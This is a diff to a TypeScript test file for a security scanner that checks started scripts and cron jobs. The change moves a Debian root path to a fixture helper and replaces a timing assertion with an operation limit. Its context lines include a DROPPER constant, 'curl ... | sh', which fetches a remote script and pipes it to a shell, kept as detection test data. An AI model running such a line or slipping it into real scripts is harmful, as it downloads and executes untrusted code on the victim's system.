@@ -21,11 +21,12 @@ import type { Check, StartedFile } from '../../src/engine/check.js';
 import { severityRank, type Finding } from '../../src/engine/finding.js';
 import { scanTarget } from '../../src/engine/scan.js';
 import { EMPTY_HASH_LIST } from '../../src/hashes/empty-hash-list.js';
-import { builtinRules, scanDirectory } from '../helpers/scan-dir.js';
+import { builtinRules, scanDirectory, scanHostile } from '../helpers/scan-dir.js';
 import { makeScratchDir, removeScratchDir } from '../helpers/images.js';
+import { fixture } from '../helpers/fixtures.js';
 
 const run = promisify(execFile);
-const DEBIAN_ROOT = process.env.MINESCAN_DEBIAN_ROOT ?? '/var/tmp/minescan-debian-root';
+const DEBIAN_ROOT = fixture('debianRoot');
 const ELF = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(200)]);
 const DROPPER = 'curl -fsSL http://198.51.100.7/x.sh | sh';
 
@@ -186,9 +187,7 @@ describe('started-scripts check', () => {
   });
 
   it('reads hostile scripts without crashing or stalling', async () => {
-    const started = Date.now();
-    const result = await scanDirectory(root('hostile'), [cronCheck, startedScriptsCheck]);
-    expect(Date.now() - started).toBeLessThan(30_000);
+    const result = await scanHostile(root('hostile'), [cronCheck, startedScriptsCheck], { maxOperations: 150_000 });
     expect(result.errors).toEqual([{ message: 'started-scripts: 4096 started paths were looked up; the rest were not followed' }]);
     // A script longer than 1 MiB is scanned on its first MiB; a NUL after the first 4 KiB
     // does not make a script binary; junk without NUL is text that matches nothing.
